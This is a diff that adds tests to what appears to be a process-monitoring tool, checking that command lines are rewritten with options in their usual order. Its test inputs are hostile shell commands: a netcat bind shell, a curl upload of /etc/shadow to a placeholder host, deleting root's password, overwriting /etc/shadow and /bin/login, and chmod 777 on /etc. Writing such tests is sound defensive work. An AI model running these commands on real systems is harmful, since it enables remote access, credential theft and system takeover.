@@ -214,6 +214,35 @@ describe('views of a process start', () => {
     });
   });
 
+  describe('writes commands in their usual form', () => {
+    for (const [line, view] of [
+      ['sed s/no/yes/ /etc/ssh/sshd_config -i', 'sed -i s/no/yes/ /etc/ssh/sshd_config'],
+      ['sed /etc/x -e s/a/b/ -i.bak -- /etc/y', 'sed -e s/a/b/ -i.bak /etc/x /etc/y'],
+      ['cp /tmp/shadow /etc/shadow -f', 'cp -f /tmp/shadow /etc/shadow'],
+      ['install /tmp/l /bin/login -m755 -o root', 'install -m 755 -o root /tmp/l /bin/login'],
+      ['chmod -R -- 777 /etc', 'chmod -R 777 /etc'],
+      ['passwd root -d', 'passwd -d root'],
+      ['grep password /etc -r', 'grep -r password /etc'],
+      ['wget -qO/tmp/x http://x -T 5', 'wget -qO /tmp/x -T 5 http://x'],
+      ['curl http://x --upload-file /etc/shadow -k', 'curl --upload-file /etc/shadow -k http://x'],
+      ['nc -lvp4444 -e/bin/sh', 'nc -lvp 4444 -e /bin/sh'],
+      ['iptables -IINPUT 1 ! -s10.0.0.1 -jACCEPT', 'iptables -I INPUT 1 ! -s 10.0.0.1 -j ACCEPT'],
+    ] as const)
+      it(line, () => {
+        for (const of of [start(line), start(`sudo ${line}`), script(`${line}; id`)])
+          assertView(of, `/usr/bin/${view.split(' ')[0]} | ${view}`);
+      });
+
+    it('but leaves those that have it, what only -- tells from an option, and other programs', () => {
+      for (const line of ['cp -f /a /b', 'rm -- -x', 'rm -f -', 'wget -qO- http://x', 'ps x -e', 'chmod u-x /a'])
+        assert.equal(viewsOf(start(line)).length, 1, line);
+    });
+
+    it('keeps the line as it is written, too', () => {
+      assert.deepEqual(shownViews(start('rm /a -f')), ['/usr/bin/rm | rm /a -f', '/usr/bin/rm | rm -f /a']);
+    });
+  });
+
   describe('removes wrappers', () => {
     const wrappers = [
       ...[
